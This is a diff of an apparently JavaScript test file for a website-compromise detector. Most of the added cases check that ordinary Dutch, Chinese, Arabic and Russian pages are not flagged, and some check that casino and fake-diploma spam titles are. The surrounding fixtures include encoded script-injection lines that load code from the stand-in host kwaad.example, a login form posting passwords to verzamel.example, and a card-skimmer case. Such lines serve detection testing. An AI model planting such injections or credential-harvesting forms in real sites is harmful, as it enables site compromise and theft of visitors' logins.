@@ -57,6 +57,8 @@ cases(compromiseSigns, {
     on(form('https://voorbeeld.nl/login', ['text', 'password'])),
     on(form('https://lijst.nieuwsbrief.nl/aanmelden', ['email'])),
     on({}, { head: { titles: ['Een andere titel'] } }),
+    on({ head: { titles: ['(1) Tramadol afbouwen'] } }, { head: { titles: ['Tramadol afbouwen'] } }),
+    on({ head: { titles: ['Flights'] } }, { head: { titles: ['Buy cheap flights'] } }),
     { ...on({}), raw: blind('notApplicable') },
     on(signIn('Bakkerij Jansen: inloggen')),
     // An ordinary page with a sign-in field, and one with a brand's name but no field.
@@ -68,6 +70,14 @@ cases(compromiseSigns, {
     on(titled('激安ルイヴィトン通販', { document: { lang: 'ja' } })),
     on({ head: { titles: ['日本語の諺を学ぶ'] }, text: { body: `日本語の諺 ${LATIN}` } }),
     on(titled('寿司 Sushi Amsterdam Noord')),
+    // Words that spam has too: castles, locks, hours to book, theatres, a sentence that lenders have to say, prevention.
+    on(menu('Slot Zuylen', 'Slot Loevestein', 'Slot Oostende')),
+    on(menu('AXA slot', 'ABUS slot', 'Trelock slot')),
+    on(menu('Book time slots online', 'Time slots Tuesday', 'Book your slot online')),
+    on(menu('Casino Beringen', 'Casino Eisden', 'Casino Houthalen')),
+    on(menu('Geld lenen kost geld', 'Geld lenen: AFM', 'Geld lenen en BKR')),
+    on(menu('Koken zonder recept', 'Brood zonder recept', 'Zonder recept bakken')),
+    on({ ...menu('Online casino: hulp', 'Online casino blokkeren', 'Togel'), ...heading('Hulp bij verslaving') }),
     // Code of a payment service, not obfuscated.
     on(inline(`var card = document.getElementById("card-number"); fetch("https://api.stripe.com/v1/tokens")`)),
   ],
@@ -83,6 +93,11 @@ cases(compromiseSigns, {
     on(inline(encoded('var _paq=[];var s=document.createElement("script");s.src="https://stats.example/m.js";'))),
     on(inline(encoded('var s=document.createElement("script");s.src="https://cdn.voorbeeld.nl/m.js";'))),
     on(form('https://verzamel.example/p.php', ['text', 'password'])),
+    // Titles of congregations, schools and restaurants in their own language.
+    on(titled('荷兰华人基督教会 – CCCN'), titled('荷兰华人基督教会 – CCCN')),
+    on(titled('مسجد السلام روتردام')),
+    on(titled('Русская школа в Амстердаме')),
+    on(titled('(1) Русская школа в Амстердаме'), titled('Русская школа в Амстердаме')),
     // Most hidden links lead to the site's own partners.
     on(menu('Partner', 'Bank', 'Krant', 'Radio', 'Winkel', 'online casino')),
   ],
@@ -100,7 +115,13 @@ cases(compromiseSigns, {
     { ...on(hidden), raw: blind('denied') },
     on(titled('激安ルイヴィトン通販サイト')),
     on(titled('Купить диплом недорого')),
-    on({ text: { body: LATIN } }, { head: { titles: ['激安ルイヴィトン通販サイト'] } }),
+    on(titled('在线赌场 老虎机 官方网站')),
+    on(titled('카지노사이트 추천 순위')),
+    on({ text: { body: LATIN } }, titled('激安ルイヴィトン通販サイト')),
+    // A title without a word of spam that the visitor does not see.
+    on({ text: { body: LATIN } }, titled('時計ブランド専門店')),
+    // Ordinary words among those of spam.
+    on(menu('slot gacor', 'casino bonus', 'poker', 'roulette')),
     on(inline(skims)),
     on(inline(encoded('document.write("<script src=https://kwaad.example/x.js></script>")'))),
     on(inline(encoded('var s=document.createElement("script");s.src="//kwaad.example/x.js"'))),
